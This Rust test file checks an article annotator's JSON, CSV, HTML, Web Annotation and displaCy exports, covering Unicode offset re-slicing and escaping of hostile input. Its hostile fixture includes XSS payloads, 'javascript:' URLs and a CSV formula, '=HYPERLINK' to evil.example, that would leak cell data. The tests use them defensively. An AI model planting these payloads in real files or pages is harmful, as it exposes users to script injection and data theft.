//! Exports (`article_annotator::export`): every format re-read by an
//! independent parser (serde_json + jsonschema, the `csv` reader, scraper's
//! HTML parser), offsets re-sliced against the source text in the unit each
//! format states, on texts with emoji, CJK, combining marks and curly quotes,
//! and on hostile input.
//!
//! Mentions and quotes are placed by hand here (test data, not product data)
//! so these tests do not depend on what the tagger finds; tokens and sentences
//! come from the real pipeline.
//!
//! `UPDATE_FIXTURES=1 cargo test --test export` rewrites the HTML report
//! fixtures in `tests/fixtures/export/` (read by the browser end-to-end suite).

use article_annotator::api::OffsetUnit;
use article_annotator::export::{self, ExportOptions, Format, FORMULA_GUARD, FORMULA_TRIGGERS};
use article_annotator::html::{HtmlOptions, Mode};
use article_annotator::span::{ByteSpan, TokenSpan};
use article_annotator::{Annotator, Document, Entity, Label, Mention, Place, Quote, QuoteKind};
use serde_json::Value;
use std::path::Path;

const UNITS: [OffsetUnit; 3] = [OffsetUnit::Utf16, OffsetUnit::Codepoint, OffsetUnit::Utf8];

fn fixture(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/export").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Byte span of the `nth` (0-based) occurrence of `needle`.
fn find(text: &str, needle: &str, nth: usize) -> ByteSpan {
    let (at, _) = text.match_indices(needle).nth(nth).unwrap_or_else(|| panic!("{needle:?} #{nth} not in the fixture"));
    ByteSpan::new(at, at + needle.len())
}

struct QuoteSpec<'a> {
    text: &'a str,
    nth: usize,
    kind: QuoteKind,
    speaker: Option<(&'a str, usize)>,
}

/// One annotator for all tests: loading the model once keeps them fast.
fn annotator() -> &'static Annotator {
    static ANNOTATOR: std::sync::OnceLock<Annotator> = std::sync::OnceLock::new();
    ANNOTATOR.get_or_init(|| Annotator::new().unwrap())
}

/// One entity per distinct (label, surface form), named by it: these tests
/// check the exports, not the pipeline's grouping rules.
fn group(doc: &mut Document) {
    doc.entities.clear();
    for i in 0..doc.mentions.len() {
        let (label, surface) = (doc.mentions[i].label, doc.mentions[i].span.slice(&doc.text).to_owned());
        let id = match doc.entities.iter().position(|e| e.label == label && e.name == surface) {
            Some(id) => id,
            None => {
                doc.entities.push(Entity { label, name: surface, mentions: Vec::new(), place: None });
                doc.entities.len() - 1
            }
        };
        doc.entities[id].mentions.push(i as u32);
        doc.mentions[i].entity = id as u32;
    }
}

/// A document over `text`: real tokens and sentences, hand-placed mentions,
/// entities, quotes and places.
fn build(text: &str, mentions: &[(&str, usize, Label)], quotes: &[QuoteSpec], places: &[(&str, Place)]) -> Document {
    let mut doc = annotator().annotate(text).unwrap();
    doc.mentions = mentions
        .iter()
        .map(|&(s, nth, label)| Mention {
            span: find(text, s, nth),
            tokens: TokenSpan::default(),
            label,
            entity: 0,
            score: 0.875,
        })
        .collect();
    doc.mentions.sort_by_key(|m| m.span.start);
    group(&mut doc);
    for (name, place) in places {
        let e = doc.entities.iter_mut().find(|e| e.name == *name).expect("place entity");
        e.place = Some(place.clone());
    }
    doc.quotes = quotes
        .iter()
        .map(|q| {
            let speaker = q.speaker.map(|(s, nth)| find(text, s, nth));
            let entity = speaker.and_then(|sp| doc.mentions.iter().find(|m| m.span == sp).map(|m| m.entity));
            Quote { span: find(text, q.text, q.nth), kind: q.kind, speaker, entity, cue: None }
        })
        .collect();
    doc.quotes.sort_by_key(|q| q.span.start);
    doc
}

fn geneva() -> Place {
    Place {
        name: "Geneva".into(),
        kind: "city".into(),
        country: "CH".into(),
        lat: 46.20222,
        lon: 6.14569,
        geonames_id: 2660646,
        population: 183981,
        score: 1.0,
    }
}

fn unicode_doc() -> Document {
    let text = fixture("unicode_news.txt");
    build(
        &text,
        &[
            ("Angela Merkel", 0, Label::Per),
            ("習近平", 0, Label::Per),
            ("Genève", 0, Label::Loc),
            ("Merkel", 1, Label::Per),
            ("東京", 0, Label::Loc),
            ("国際連合", 0, Label::Org),
            ("𝔘𝔫𝔦𝔠𝔬𝔡𝔢", 0, Label::Misc),
            ("José\u{301} Müller", 0, Label::Per),
            ("Siemens AG", 0, Label::Org),
            ("Putin", 0, Label::Per),
            ("Moscow", 0, Label::Loc),
        ],
        &[
            QuoteSpec {
                text: "“We want peace 🕊️ for everyone,”",
                nth: 0,
                kind: QuoteKind::Direct,
                speaker: Some(("Merkel", 1)),
            },
            QuoteSpec {
                text: "“useful”", nth: 0, kind: QuoteKind::Partial, speaker: Some(("José\u{301} Müller", 0))
            },
            QuoteSpec { text: "“a first step,\nnothing more”", nth: 0, kind: QuoteKind::Partial, speaker: None },
        ],
        &[("Genève", geneva())],
    )
}

fn hostile_doc() -> Document {
    let text = fixture("hostile.txt");
    build(
        &text,
        &[
            ("<script>alert(\"x\")</script>", 0, Label::Org),
            ("=HYPERLINK(\"http://evil.example/?\"&A1)", 0, Label::Per),
            ("<img src=x onerror=alert(1)>", 0, Label::Misc),
            ("@Evil Corp", 0, Label::Org),
            ("-Minus Person", 0, Label::Per),
        ],
        &[
            QuoteSpec {
                text: "“Line one, with a comma,\nline \"two\" & <b>bold</b> *stars* [link](javascript:alert(1))”",
                nth: 0,
                kind: QuoteKind::Direct,
                speaker: Some(("@Evil Corp", 0)),
            },
            QuoteSpec {
                text: "“+1, =SUM(A1:A9)”",
                nth: 0,
                kind: QuoteKind::Direct,
                speaker: Some(("-Minus Person", 0)),
            },
        ],
        &[],
    )
}

fn hostile_options() -> ExportOptions {
    ExportOptions {
        title: Some("</title><script>alert(1)</script> \"onload=alert(1)".into()),
        url: Some("javascript:alert(1)//\"><script>".into()),
        ..ExportOptions::default()
    }
}

fn docs() -> Vec<(&'static str, Document)> {
    vec![("unicode", unicode_doc()), ("hostile", hostile_doc()), ("empty", build("", &[], &[], &[]))]
}

/// The text between offsets `start..end` counted in `unit`.
fn slice_in(text: &str, unit: OffsetUnit, start: u64, end: u64) -> String {
    let (s, e) = (start as usize, end as usize);
    assert!(s <= e, "start {s} after end {e}");
    match unit {
        OffsetUnit::Utf8 => text.get(s..e).expect("UTF-8 offsets on char boundaries").to_owned(),
        OffsetUnit::Codepoint => {
            assert!(e <= text.chars().count());
            text.chars().skip(s).take(e - s).collect()
        }
        OffsetUnit::Utf16 => {
            let units: Vec<u16> = text.encode_utf16().collect();
            String::from_utf16(&units[s..e]).expect("UTF-16 offsets not inside a surrogate pair")
        }
    }
}

fn unit_name(unit: OffsetUnit) -> &'static str {
    match unit {
        OffsetUnit::Utf16 => "utf16",
        OffsetUnit::Codepoint => "codepoint",
        OffsetUnit::Utf8 => "utf8",
    }
}

fn export_with(doc: &Document, format: Format, options: &ExportOptions) -> String {
    let s = export::to_string(doc, format, options);
    // The streaming writer and the string form are the same bytes.
    let mut streamed = Vec::new();
    export::write(doc, format, options, &mut streamed).unwrap();
    assert_eq!(streamed, s.as_bytes(), "{format:?}");
    s
}

fn unit_opts(unit: OffsetUnit) -> ExportOptions {
    ExportOptions { offsets: unit, ..ExportOptions::default() }
}

// ---------------------------------------------------------------- JSON

fn schema() -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schema/document.schema.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// The schema with `additionalProperties: false` on every object: the
/// published schema lets consumers ignore new fields, but our own output
/// must not have fields the schema does not describe.
fn strict(mut schema: Value) -> Value {
    fn walk(v: &mut Value) {
        match v {
            Value::Object(map) => {
                if map.contains_key("properties") && !map.contains_key("additionalProperties") {
                    map.insert("additionalProperties".into(), Value::Bool(false));
                }
                map.values_mut().for_each(walk);
            }
            Value::Array(items) => items.iter_mut().for_each(walk),
            _ => {}
        }
    }
    walk(&mut schema);
    schema
}

fn assert_valid(validator: &jsonschema::Validator, instance: &Value, what: &str) {
    let errors: Vec<String> =
        validator.iter_errors(instance).map(|e| format!("{} at {}", e, e.instance_path())).collect();
    assert!(errors.is_empty(), "{what}: {errors:#?}");
}

#[test]
fn json_schema_is_a_valid_2020_12_schema() {
    jsonschema::meta::validate(&schema()).expect("meta-schema");
}

#[test]
fn json_output_validates_against_the_schema() {
    let published = jsonschema::validator_for(&schema()).unwrap();
    let strict = jsonschema::validator_for(&strict(schema())).unwrap();
    let mut real: Vec<(String, Document)> = Vec::new();
    for name in ["news_mixed.txt", "unicode.txt", "crlf_nbsp.txt"] {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/text").join(name);
        let text = std::fs::read_to_string(path).unwrap();
        real.push((name.into(), annotator().annotate(&text).unwrap()));
    }
    // HTML input: spans carry DOM anchors, article mode adds metadata.
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/html/article.html");
    let page = std::fs::read_to_string(page).unwrap();
    for mode in [Mode::Text, Mode::Article] {
        let doc = annotator().annotate_html(&page, &HtmlOptions { mode }).unwrap();
        assert!(doc.html.is_some());
        real.push((format!("article.html {mode:?}"), doc));
    }
    let built = docs().into_iter().map(|(n, d)| (n.to_owned(), d));
    for (name, doc) in real.into_iter().chain(built) {
        for unit in UNITS {
            for pretty in [false, true] {
                let options = ExportOptions { offsets: unit, pretty, ..ExportOptions::default() };
                let json: Value = serde_json::from_str(&export_with(&doc, Format::Json, &options)).unwrap();
                assert_eq!(json["offsets"], unit_name(unit));
                if name.starts_with("article.html") {
                    assert!(json["sentenceAnchors"].is_array(), "the HTML fields are checked too");
                    assert_eq!(json["article"].is_object(), name.ends_with("Article"));
                }
                assert_valid(&published, &json, &name);
                assert_valid(&strict, &json, &name);
            }
        }
    }
}

#[test]
fn json_schema_rejects_broken_documents() {
    let validator = jsonschema::validator_for(&strict(schema())).unwrap();
    let good: Value =
        serde_json::from_str(&export::to_string(&unicode_doc(), Format::Json, &unit_opts(OffsetUnit::Utf16))).unwrap();
    assert!(validator.is_valid(&good));
    type Breakage = fn(&mut Value);
    let breakages: [(&str, Breakage); 6] = [
        ("unknown unit", |v| v["offsets"] = "chars".into()),
        ("schema 2", |v| v["schema"] = 2.into()),
        ("label", |v| v["mentions"][0]["label"] = "PERSON".into()),
        ("negative offset", |v| v["mentions"][0]["start"] = (-1).into()),
        ("missing speaker", |v| {
            v["quotes"][0].as_object_mut().unwrap().remove("speaker");
        }),
        ("undocumented field", |v| v["mentions"][0]["extra"] = true.into()),
    ];
    for (what, breakage) in breakages {
        let mut bad = good.clone();
        breakage(&mut bad);
        assert!(!validator.is_valid(&bad), "schema accepted a document with a broken {what}");
    }
}

#[test]
fn json_offsets_reslice_in_every_unit() {
    for (name, doc) in docs() {
        for unit in UNITS {
            let json: Value = serde_json::from_str(&export_with(&doc, Format::Json, &unit_opts(unit))).unwrap();
            let text = json["text"].as_str().unwrap();
            assert_eq!(text, doc.text);
            let mentions = json["mentions"].as_array().unwrap();
            assert_eq!(mentions.len(), doc.mentions.len());
            for (m, orig) in mentions.iter().zip(&doc.mentions) {
                let got = slice_in(text, unit, m["start"].as_u64().unwrap(), m["end"].as_u64().unwrap());
                assert_eq!(got, orig.span.slice(&doc.text), "{name} {unit:?}");
                assert_eq!(got, m["text"].as_str().unwrap());
            }
            for (q, orig) in json["quotes"].as_array().unwrap().iter().zip(&doc.quotes) {
                let got = slice_in(text, unit, q["start"].as_u64().unwrap(), q["end"].as_u64().unwrap());
                assert_eq!(got, orig.span.slice(&doc.text), "{name} {unit:?}");
                if let Some(sp) = q["speaker"].as_object() {
                    let got = slice_in(text, unit, sp["start"].as_u64().unwrap(), sp["end"].as_u64().unwrap());
                    assert_eq!(got, sp["text"].as_str().unwrap());
                }
            }
        }
    }
}

// ---------------------------------------------------------------- CSV

/// Parses CSV with the `csv` crate's reader (a different code path from the
/// writer: csv-core's reader state machine) after removing an optional BOM.
fn read_csv(s: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let body = s.strip_prefix('\u{feff}').unwrap_or(s);
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    (headers, rows)
}

fn col(headers: &[String], name: &str) -> usize {
    headers.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"))
}

/// Undoes the formula guard, checking it was applied exactly when needed.
fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(FORMULA_GUARD) {
        Some(rest) if rest.starts_with(FORMULA_TRIGGERS) => rest,
        _ => {
            assert!(!cell.starts_with(FORMULA_TRIGGERS), "unguarded formula cell {cell:?}");
            cell
        }
    }
}

#[test]
fn csv_mentions_reparse_and_reslice() {
    for (name, doc) in docs() {
        for unit in UNITS {
            let out = export_with(&doc, Format::CsvMentions, &unit_opts(unit));
            let (h, rows) = read_csv(&out);
            assert_eq!(
                h,
                [
                    "mention_id",
                    "entity_id",
                    "entity_name",
                    "label",
                    "text",
                    "start",
                    "end",
                    "offset_unit",
                    "sentence",
                    "score"
                ]
            );
            assert_eq!(rows.len(), doc.mentions.len(), "{name}");
            for (row, m) in rows.iter().zip(&doc.mentions) {
                let (s, e) = (row[col(&h, "start")].parse().unwrap(), row[col(&h, "end")].parse().unwrap());
                assert_eq!(row[col(&h, "offset_unit")], unit_name(unit));
                assert_eq!(slice_in(&doc.text, unit, s, e), m.span.slice(&doc.text), "{name} {unit:?}");
                assert_eq!(unguard(&row[col(&h, "text")]), m.span.slice(&doc.text));
                assert_eq!(row[col(&h, "label")], m.label.as_str());
                let entity = &doc.entities[row[col(&h, "entity_id")].parse::<usize>().unwrap()];
                assert_eq!(unguard(&row[col(&h, "entity_name")]), entity.name);
                let sentence = &doc.sentences[row[col(&h, "sentence")].parse::<usize>().unwrap()];
                assert!(sentence.span.contains(m.span) || sentence.span.start <= m.span.start);
            }
        }
    }
}

#[test]
fn csv_quotes_reparse_and_reslice_with_embedded_newlines() {
    for (name, doc) in docs() {
        for unit in UNITS {
            let out = export_with(&doc, Format::CsvQuotes, &unit_opts(unit));
            let (h, rows) = read_csv(&out);
            assert_eq!(h[..6], ["quote_id", "kind", "speaker", "speaker_entity_id", "speaker_entity_name", "text"]);
            assert_eq!(rows.len(), doc.quotes.len(), "{name}");
            for (row, q) in rows.iter().zip(&doc.quotes) {
                let (s, e) = (row[col(&h, "start")].parse().unwrap(), row[col(&h, "end")].parse().unwrap());
                assert_eq!(slice_in(&doc.text, unit, s, e), q.span.slice(&doc.text), "{name} {unit:?}");
                assert_eq!(unguard(&row[col(&h, "text")]), q.span.slice(&doc.text));
                assert_eq!(row[col(&h, "offset_unit")], unit_name(unit));
                match q.speaker {
                    Some(sp) => {
                        assert_eq!(unguard(&row[col(&h, "speaker")]), sp.slice(&doc.text));
                        let (s, e) = (
                            row[col(&h, "speaker_start")].parse().unwrap(),
                            row[col(&h, "speaker_end")].parse().unwrap(),
                        );
                        assert_eq!(slice_in(&doc.text, unit, s, e), sp.slice(&doc.text));
                    }
                    None => assert_eq!(row[col(&h, "speaker")], ""),
                }
                let kind = serde_json::to_value(q.kind).unwrap();
                assert_eq!(row[col(&h, "kind")], kind.as_str().unwrap());
            }
        }
    }
    // The embedded line break survives inside one field.
    let doc = unicode_doc();
    let (h, rows) = read_csv(&export::to_string(&doc, Format::CsvQuotes, &ExportOptions::default()));
    assert!(rows.iter().any(|r| r[col(&h, "text")] == "“a first step,\nnothing more”"));
}

#[test]
fn csv_bom_option_and_formula_guard() {
    let doc = hostile_doc();
    for format in [Format::CsvMentions, Format::CsvQuotes] {
        let plain = export::to_string(&doc, format, &ExportOptions::default());
        assert!(!plain.starts_with('\u{feff}'));
        let bom = export::to_string(&doc, format, &ExportOptions { bom: true, ..ExportOptions::default() });
        assert_eq!(bom.strip_prefix('\u{feff}'), Some(plain.as_str()));
        assert!(plain.contains("\r\n"), "RFC 4180 line ends");
        // No cell, as a spreadsheet reads it, starts a formula.
        let (_, rows) = read_csv(&bom);
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(FORMULA_TRIGGERS), "{format:?}: formula cell {cell:?}");
        }
    }
    let (h, rows) = read_csv(&export::to_string(&doc, Format::CsvMentions, &ExportOptions::default()));
    let texts: Vec<&str> = rows.iter().map(|r| r[col(&h, "text")].as_str()).collect();
    assert!(texts.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1)"), "{texts:?}");
    assert!(texts.contains(&"'@Evil Corp"));
    assert!(texts.contains(&"'-Minus Person"));
    assert!(texts.contains(&"<script>alert(\"x\")</script>"), "non-formula cells are unchanged");
    let (h, rows) = read_csv(&export::to_string(&doc, Format::CsvQuotes, &ExportOptions::default()));
    assert_eq!(rows[0][col(&h, "speaker_entity_name")], "'@Evil Corp");
    assert_eq!(rows[1][col(&h, "speaker")], "'-Minus Person");
}

#[test]
fn csv_of_an_empty_document_has_headers() {
    let doc = build("", &[], &[], &[]);
    for format in [Format::CsvMentions, Format::CsvQuotes] {
        let (h, rows) = read_csv(&export::to_string(&doc, format, &ExportOptions::default()));
        assert!(h.len() >= 10 && rows.is_empty());
    }
}

// ---------------------------------------------------------------- HTML

fn parse_html(s: &str) -> scraper::Html {
    scraper::Html::parse_document(s)
}

fn sel(s: &str) -> scraper::Selector {
    scraper::Selector::parse(s).unwrap()
}

fn attr_u64(el: &scraper::ElementRef, name: &str) -> u64 {
    el.value().attr(name).unwrap().parse().unwrap()
}

#[test]
fn html_highlights_reslice_in_code_points() {
    for (name, doc) in docs() {
        let out = export_with(&doc, Format::Html, &ExportOptions::default());
        let html = parse_html(&out);
        assert!(html.errors.is_empty() || name == "empty", "{name}: {:?}", html.errors);
        let unit = html.select(&sel("meta[name=offset-unit]")).next().unwrap();
        assert_eq!(unit.value().attr("content"), Some("codepoint"));
        let article = html.select(&sel("div.article")).next().unwrap();
        assert_eq!(article.text().collect::<String>(), doc.text, "{name}: the article text is complete and unchanged");
        let marks: Vec<_> = article.select(&sel("mark[data-start]")).collect();
        assert_eq!(marks.len(), doc.mentions.len(), "{name}");
        for (mark, m) in marks.iter().zip(&doc.mentions) {
            let got =
                slice_in(&doc.text, OffsetUnit::Codepoint, attr_u64(mark, "data-start"), attr_u64(mark, "data-end"));
            assert_eq!(got, m.span.slice(&doc.text));
            assert_eq!(mark.text().collect::<String>(), got);
            assert_eq!(mark.value().attr("data-label"), Some(m.label.as_str()));
            assert!(mark.value().classes().any(|c| c == m.label.as_str()));
        }
        let quotes: Vec<_> = article.select(&sel("span.q[data-start]")).collect();
        assert_eq!(quotes.len(), doc.quotes.len(), "{name}");
        for (el, q) in quotes.iter().zip(&doc.quotes) {
            let got = slice_in(&doc.text, OffsetUnit::Codepoint, attr_u64(el, "data-start"), attr_u64(el, "data-end"));
            assert_eq!(got, q.span.slice(&doc.text));
            assert_eq!(el.text().collect::<String>(), got);
        }
        // Entity list and quote list.
        let named = doc.entities.iter().filter(|e| !e.mentions.is_empty()).count();
        assert_eq!(html.select(&sel("section.entities tbody tr")).count(), named);
        assert_eq!(html.select(&sel("ol.quotes > li")).count(), doc.quotes.len());
    }
}

#[test]
fn html_marks_the_mentions_the_model_is_unsure_of() {
    let mut doc = unicode_doc();
    doc.mentions[1].score = 0.3;
    let out = export::to_string(&doc, Format::Html, &ExportOptions::default());
    let html = parse_html(&out);
    let article = html.select(&sel("div.article")).next().unwrap();
    for (mark, m) in article.select(&sel("mark[data-start]")).zip(&doc.mentions) {
        let unsure = mark.value().classes().any(|c| c == "unsure");
        assert_eq!(unsure, m.score < 0.5, "{}", m.span.slice(&doc.text));
        assert_eq!(mark.value().attr("title").unwrap().ends_with("the model is unsure"), unsure);
    }
    let legend = html.select(&sel(".legend")).next().unwrap().text().collect::<String>();
    assert!(legend.contains("Unsure 1 (score under 0.5)"), "{legend}");
    // Without unsure mentions the legend does not mention them.
    let sure = export::to_string(&unicode_doc(), Format::Html, &ExportOptions::default());
    assert!(!sure.contains("class=\"unsure\"") && !sure.contains("Unsure"));
}

#[test]
fn html_report_is_self_contained_and_printable() {
    let out = export::to_string(&unicode_doc(), Format::Html, &ExportOptions::default());
    let html = parse_html(&out);
    let csp = html.select(&sel("meta[http-equiv=Content-Security-Policy]")).next().expect("CSP meta");
    let csp = csp.value().attr("content").unwrap();
    assert!(csp.starts_with("default-src 'none'") && !csp.contains("script-src"), "{csp}");
    assert!(out.contains("@page") && out.contains("@media print"));
    assert_eq!(html.select(&sel("style")).count(), 1);
    for (tag, attr) in [("link", "href"), ("img", "src"), ("iframe", "src"), ("object", "data"), ("script", "src")] {
        assert_eq!(html.select(&sel(tag)).count(), 0, "no <{tag} {attr}>");
    }
    // The only external link goes to GeoNames; the others jump inside the
    // report, from the lists to the article, and every target exists.
    let links: Vec<&str> = html.select(&sel("a[href]")).map(|a| a.value().attr("href").unwrap()).collect();
    let external: Vec<&&str> = links.iter().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(external, [&"https://sws.geonames.org/2660646/"]);
    assert_eq!(links.len(), 1 + 11 + 3, "one link per name and per quote");
    for link in links.iter().filter_map(|l| l.strip_prefix('#')) {
        assert_eq!(html.select(&sel(&format!("div.article [id={link}]"))).count(), 1, "#{link}");
    }
    assert!(html.select(&sel(".legend mark.PER")).next().is_some());
}

#[test]
fn html_hostile_input_is_escaped() {
    let doc = hostile_doc();
    let out = export_with(&doc, Format::Html, &hostile_options());
    assert!(!out.to_ascii_lowercase().contains("<script"), "raw <script in the report");
    assert!(!out.contains("<img") && !out.contains("<b>"));
    let html = parse_html(&out);
    assert_eq!(html.select(&sel("script, img, iframe, b")).count(), 0);
    for el in html.root_element().descendants().filter_map(scraper::ElementRef::wrap) {
        for (attr, value) in el.value().attrs() {
            assert!(!attr.to_ascii_lowercase().starts_with("on"), "event handler {attr}={value:?}");
            assert!(!value.to_ascii_lowercase().contains("javascript:") || attr == "title", "{attr}={value:?}");
        }
    }
    let links: Vec<&str> = html.select(&sel("a[href]")).map(|a| a.value().attr("href").unwrap()).collect();
    assert!(links.iter().all(|l| l.starts_with('#')), "a javascript: URL is shown as text, not linked: {links:?}");
    let title = html.select(&sel("title")).next().unwrap().text().collect::<String>();
    assert_eq!(title, hostile_options().title.unwrap());
    let article = html.select(&sel("div.article")).next().unwrap();
    assert_eq!(article.text().collect::<String>(), doc.text);
}

#[test]
fn html_nested_and_crossing_spans_keep_every_highlight() {
    let text = "He said the Bank of England was “a safe pair of hands” for now.";
    let doc = build(
        text,
        &[("Bank of England", 0, Label::Org), ("England", 0, Label::Loc), ("for now", 0, Label::Misc)],
        &[
            QuoteSpec {
                text: "the Bank of England was “a safe pair of hands” for",
                nth: 0,
                kind: QuoteKind::Indirect,
                speaker: None,
            },
            QuoteSpec { text: "“a safe pair of hands”", nth: 0, kind: QuoteKind::Partial, speaker: None },
        ],
        &[],
    );
    let out = export::to_string(&doc, Format::Html, &ExportOptions::default());
    let html = parse_html(&out);
    assert!(html.errors.is_empty(), "{:?}", html.errors);
    let article = html.select(&sel("div.article")).next().unwrap();
    assert_eq!(article.text().collect::<String>(), text);
    for (selector, spans) in [
        ("mark[data-start]", doc.mentions.iter().map(|m| m.span).collect::<Vec<_>>()),
        ("span.q[data-start]", doc.quotes.iter().map(|q| q.span).collect()),
    ] {
        let els: Vec<_> = article.select(&sel(selector)).collect();
        assert_eq!(els.len(), spans.len(), "{selector}: every span keeps its element");
        for (el, span) in els.iter().zip(spans) {
            let got = slice_in(text, OffsetUnit::Codepoint, attr_u64(el, "data-start"), attr_u64(el, "data-end"));
            assert_eq!(got, span.slice(text));
        }
    }
    // The inner spans are drawn whole; the outer ones continue after them.
    let partial = article.select(&sel("span.q.partial")).next().unwrap();
    assert_eq!(partial.text().collect::<String>(), "“a safe pair of hands”");
    let england: Vec<String> = article.select(&sel("mark.LOC")).map(|m| m.text().collect()).collect();
    assert_eq!(england, ["England"]);
    assert!(article.select(&sel("span.q.indirect.cont")).count() >= 1);
    assert!(article.select(&sel("mark.MISC.cont")).count() == 1, "a mention crossing the quote end is cut");

    // Nested spans with the same start: the outer one's element (with its
    // offsets) comes after the inner one.
    let text = "The Bank of England said so.";
    let doc = build(text, &[("Bank", 0, Label::Org), ("Bank of England", 0, Label::Org)], &[], &[]);
    let html = parse_html(&export::to_string(&doc, Format::Html, &ExportOptions::default()));
    let marks: Vec<(String, u64)> = html
        .select(&sel("div.article mark[data-start]"))
        .map(|m| (m.text().collect(), attr_u64(&m, "data-end")))
        .collect();
    assert_eq!(marks, [("Bank".to_owned(), 8), (" of England".to_owned(), 19)]);
}

/// Writes (with UPDATE_FIXTURES=1) or checks the report fixtures that the
/// browser end-to-end suite opens.
#[test]
fn html_report_fixtures_are_current() {
    let unicode = ExportOptions {
        title: Some("Merkel meets 習近平 in Genève 😀".into()),
        url: Some("https://news.example/merkel".into()),
        ..ExportOptions::default()
    };
    for (file, doc, options) in
        [("report_unicode.html", unicode_doc(), unicode), ("report_hostile.html", hostile_doc(), hostile_options())]
    {
        let out = export::to_string(&doc, Format::Html, &options);
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/export").join(file);
        if std::env::var_os("UPDATE_FIXTURES").is_some() {
            std::fs::write(&path, &out).unwrap();
        } else {
            let committed = std::fs::read_to_string(&path).unwrap_or_default();
            assert!(committed == out, "{file} is stale: run UPDATE_FIXTURES=1 cargo test --test export");
        }
    }
}

// ---------------------------------------------------------------- W3C Web Annotation

fn chars(s: &str) -> usize {
    s.chars().count()
}

#[test]
fn webanno_selectors_reslice_and_reanchor() {
    for (name, doc) in docs() {
        let options = ExportOptions {
            title: Some("Title".into()),
            url: Some("https://news.example/a?b=1".into()),
            ..ExportOptions::default()
        };
        let json: Value = serde_json::from_str(&export_with(&doc, Format::WebAnno, &options)).unwrap();
        assert_eq!(json["@context"], "http://www.w3.org/ns/anno.jsonld");
        assert_eq!(json["type"], "AnnotationCollection");
        assert_eq!(json["label"], "Title");
        let items = json["first"]["items"].as_array().unwrap();
        assert_eq!(json["first"]["type"], "AnnotationPage");
        assert_eq!(items.len(), doc.mentions.len() + doc.quotes.len(), "{name}");
        assert_eq!(json["total"].as_u64().unwrap() as usize, items.len());
        let spans = doc.mentions.iter().map(|m| m.span).chain(doc.quotes.iter().map(|q| q.span));
        let mut ids = std::collections::HashSet::new();
        for (a, span) in items.iter().zip(spans) {
            assert_eq!(a["type"], "Annotation");
            assert!(ids.insert(a["id"].as_str().unwrap().to_owned()), "duplicate id");
            let target = &a["target"];
            assert_eq!(target["source"], "https://news.example/a?b=1");
            let quote =
                target["selector"].as_array().unwrap().iter().find(|s| s["type"] == "TextQuoteSelector").unwrap();
            let pos =
                target["selector"].as_array().unwrap().iter().find(|s| s["type"] == "TextPositionSelector").unwrap();
            let (start, end) = (pos["start"].as_u64().unwrap(), pos["end"].as_u64().unwrap());
            let exact = quote["exact"].as_str().unwrap();
            assert_eq!(slice_in(&doc.text, OffsetUnit::Codepoint, start, end), exact);
            assert_eq!(exact, span.slice(&doc.text));
            let (prefix, suffix) = (quote["prefix"].as_str().unwrap(), quote["suffix"].as_str().unwrap());
            assert_eq!(chars(prefix), (start as usize).min(32));
            assert_eq!(chars(suffix), (chars(&doc.text) - end as usize).min(32));
            // Re-anchoring by quote alone finds exactly this place.
            let needle = format!("{prefix}{exact}{suffix}");
            let hits: Vec<usize> = doc.text.match_indices(&needle).map(|(i, _)| i).collect();
            assert_eq!(hits.len(), 1, "{name}: {needle:?} anchors {} times", hits.len());
            assert_eq!(hits[0] + prefix.len(), span.start as usize);
        }
    }
}

#[test]
fn webanno_bodies_labels_places_and_speakers() {
    let doc = unicode_doc();
    let json: Value =
        serde_json::from_str(&export::to_string(&doc, Format::WebAnno, &ExportOptions::default())).unwrap();
    assert!(json.get("label").is_none());
    let items = json["first"]["items"].as_array().unwrap();
    let geneve = items.iter().find(|a| a["target"]["selector"][0]["exact"] == "Genève").unwrap();
    let bodies = geneve["body"].as_array().unwrap();
    assert!(bodies.iter().any(|b| b["purpose"] == "tagging" && b["value"] == "LOC"));
    assert!(bodies.iter().any(|b| b["id"] == "https://sws.geonames.org/2660646/"));
    let source = geneve["target"]["source"].as_str().unwrap();
    assert!(source.starts_with("urn:article-annotator:"), "without a URL the source is named by the text: {source}");
    let quote = items.iter().find(|a| a["target"]["selector"][0]["exact"] == "“useful”").unwrap();
    let values: Vec<&str> = quote["body"].as_array().unwrap().iter().filter_map(|b| b["value"].as_str()).collect();
    assert_eq!(values, ["quote", "partial", "José\u{301} Müller"]);
}

// ---------------------------------------------------------------- displaCy

#[test]
fn displacy_reslices_in_code_points() {
    for (name, doc) in docs() {
        let options = ExportOptions { title: Some("T".into()), ..ExportOptions::default() };
        let json: Value = serde_json::from_str(&export_with(&doc, Format::Displacy, &options)).unwrap();
        assert_eq!(json["text"], doc.text.as_str());
        assert_eq!(json["title"], "T");
        assert_eq!(json["offsets"], "codepoint");
        let ents = json["ents"].as_array().unwrap();
        assert_eq!(ents.len(), doc.mentions.len(), "{name}");
        for (e, m) in ents.iter().zip(&doc.mentions) {
            let got =
                slice_in(&doc.text, OffsetUnit::Codepoint, e["start"].as_u64().unwrap(), e["end"].as_u64().unwrap());
            assert_eq!(got, m.span.slice(&doc.text));
            assert_eq!(e["label"], m.label.as_str());
        }
    }
    let json: Value =
        serde_json::from_str(&export::to_string(&unicode_doc(), Format::Displacy, &ExportOptions::default())).unwrap();
    assert!(json["title"].is_null());
}

// ---------------------------------------------------------------- Markdown

/// Removes CommonMark backslash escapes.
fn unescape_md(s: &str) -> String {
    let mut out = String::new();
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        if c == '\\' && it.peek().is_some_and(|n| n.is_ascii_punctuation()) {
            out.push(it.next().unwrap());
        } else {
            out.push(c);
        }
    }
    out
}

fn flatten_space(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
